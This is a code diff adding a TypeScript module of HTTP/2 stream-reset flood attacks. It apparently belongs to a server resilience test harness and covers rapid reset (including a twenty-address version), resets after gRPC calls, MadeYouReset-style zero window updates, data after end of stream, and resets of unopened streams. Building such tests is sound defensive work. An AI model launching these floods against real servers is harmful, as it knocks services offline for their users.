@@ -1,0 +1,82 @@
+import { flood } from "../../clients/flood.ts";
+import { flags, frame, headerBlock, headers, reset, types, windowUpdate } from "../../clients/http2-frames.ts";
+import { envelope, getFields, postFields, protoRequest, rpcPath } from "../../clients/requests.ts";
+import type { Attack } from "../../harness/attack.ts";
+
+const STREAMS = 100;
+
+/** A burst of streams, each made by `one` from its odd number. */
+const streams =
+  (one: (stream: number) => Uint8Array) =>
+  (burst: number): Buffer =>
+    Buffer.concat(Array.from({ length: STREAMS }, (_, i) => one(2 * (burst * STREAMS + i) + 1)));
+
+const get = headerBlock(getFields);
+const call = headerBlock(postFields(rpcPath, "application/grpc"));
+
+const wholeCall = (stream: number): Buffer =>
+  Buffer.concat([
+    headers(stream, call, flags.endHeaders),
+    frame(types.data, flags.endStream, stream, envelope(protoRequest)),
+  ]);
+
+export const http2Resets: readonly Attack[] = [
+  {
+    name: "rapid reset",
+    row: "H2-1",
+    memory: 96,
+    run: (context) =>
+      flood(context, {
+        frames: STREAMS,
+        burst: streams((stream) => Buffer.concat([headers(stream, get), reset(stream)])),
+      }),
+  },
+  {
+    name: "rapid reset from twenty addresses",
+    row: "H2-1",
+    memory: 128,
+    run: (context) =>
+      flood(context, {
+        frames: STREAMS,
+        connections: 20,
+        addresses: 20,
+        burst: streams((stream) => Buffer.concat([headers(stream, get), reset(stream)])),
+      }),
+  },
+  {
+    name: "reset after a whole call",
+    row: "H2-2",
+    memory: 96,
+    run: (context) =>
+      flood(context, {
+        frames: STREAMS,
+        burst: streams((stream) => Buffer.concat([wholeCall(stream), reset(stream)])),
+      }),
+  },
+  {
+    name: "resets provoked by windows of nothing (MadeYouReset)",
+    row: "H2-2",
+    memory: 96,
+    run: (context) =>
+      flood(context, {
+        frames: STREAMS,
+        burst: streams((stream) => Buffer.concat([wholeCall(stream), windowUpdate(stream, 0)])),
+      }),
+  },
+  {
+    name: "resets provoked by data after the end",
+    row: "H2-2",
+    memory: 96,
+    run: (context) =>
+      flood(context, {
+        frames: STREAMS,
+        burst: streams((stream) => Buffer.concat([wholeCall(stream), frame(types.data, 0, stream, [0])])),
+      }),
+  },
+  {
+    name: "resets of streams that never were",
+    row: "H2-5",
+    memory: 64,
+    run: (context) => flood(context, { frames: STREAMS, burst: streams((stream) => reset(stream)) }),
+  },
+];
